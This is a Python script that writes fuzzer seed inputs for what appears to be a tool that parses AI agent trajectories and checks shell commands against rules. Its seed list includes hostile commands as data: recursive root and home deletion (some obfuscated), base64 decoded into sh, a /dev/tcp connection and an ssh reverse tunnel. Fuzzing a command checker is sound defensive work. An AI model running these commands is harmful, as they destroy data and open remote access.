"""Writes the fuzzers' seed inputs: from examples/, the golden tests and rules/, all written by us.

usage: seeds.py OUT_DIR; makes OUT_DIR/NAME/ for every fuzz program."""

import gzip
import hashlib
import os
import re
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
SEED_MAX = 131072
FORMATS = ["any", "openai_chat", "anthropic", "claude_code", "swe_agent", "stepshield", "steps"]
COMMANDS = [
    "ls -la", "cd / && rm -rf *", "x=rm; $x -rf ~", "echo aGk= | base64 -d | sh", "bash -c 'id; eval \"$X\"'",
    "python3 - <<'EOF' 2>&1 | tail\nimport os\nos.system('id')\nEOF\n", "cat <<A <<B\na\nA\nb\nB\n",
    "find . -name '*.c' -exec grep -l x {} + | xargs -0 rm", "for i in a b; do echo $i; done > /dev/null &",
    "exec 3<>/dev/tcp/192.0.2.1/4444", "ssh -N -R 2222:localhost:22 me@relay.example", "{rm,-rf,/}",
    "case $x in a) y;; esac; [[ $a =~ b ]] && (( c++ ))", "f() { $(g); }; f <(h) `i`", "printf '%s' $'\\x41' | xxd -r -p",
]


def write(folder, data):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, hashlib.sha256(data).hexdigest()[:16]), "wb") as file:
        file.write(data[:SEED_MAX])


def files_below(*folders):
    for folder in folders:
        for at, _dirs, names in os.walk(os.path.join(ROOT, folder)):
            for name in sorted(names):
                with open(os.path.join(at, name), "rb") as file:
                    yield name, file.read()


def rule_examples(text):
    """One-line list items of rule files are mostly the example commands."""
    return [m[1].strip().strip("'\"") for m in re.finditer(r"^\s+- (.{4,200})$", text, re.M)]


def main(out):
    commands = list(COMMANDS)
    for name, data in files_below("rules"):
        if name.endswith((".yaml", ".yml")):
            write(os.path.join(out, "fuzz_rules"), data)
            commands += rule_examples(data.decode("utf-8", "replace"))
    for command in commands:
        for choice in (b"\0", b"\3"):
            write(os.path.join(out, "fuzz_command"), choice + command.encode())
    for name, data in files_below("examples/trajectories", "tests/golden"):
        if not name.endswith((".json", ".jsonl", ".traj", ".gz", ".zst")):
            continue
        for fmt in FORMATS:
            write(os.path.join(out, "fuzz_reader_" + fmt), data)
        write(os.path.join(out, "fuzz_reader_any"), gzip.compress(data, mtime=0))
    for fmt in FORMATS:
        write(os.path.join(out, "fuzz_reader_" + fmt), b'{"messages":[{"role":"user","content":"hi"}]}\n')


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main(sys.argv[1])
